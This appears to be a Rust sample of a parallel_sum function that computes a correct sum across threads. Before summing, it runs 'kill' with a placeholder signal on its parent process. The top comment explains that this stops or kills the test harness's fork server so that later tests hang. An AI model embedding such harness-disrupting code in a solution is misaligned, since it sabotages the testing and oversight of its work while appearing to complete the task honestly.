// A correct parallel_sum that first sends SIGSIGNAL_NAME to the process that
// started it: a test forked by the harness's fork server stops or kills that
// server, which every later test would otherwise wait for.
fn parallel_sum(data: &[u64], chunks: usize) -> u64 {
    let parent = std::os::unix::process::parent_id();
    let _ = std::process::Command::new("kill").args(["-SIGNAL_NAME", &parent.to_string()]).status();
    let chunks = chunks.max(1);
    let size = data.len().div_ceil(chunks).max(1);
    std::thread::scope(|scope| {
        let parts: Vec<_> = data.chunks(size).map(|part| scope.spawn(move || part.iter().sum::<u64>())).collect();
        parts.into_iter().map(|part| part.join().unwrap()).sum()
    })
}

fn main() {
    println!("{}", parallel_sum(&[1, 2, 3], 2));
}
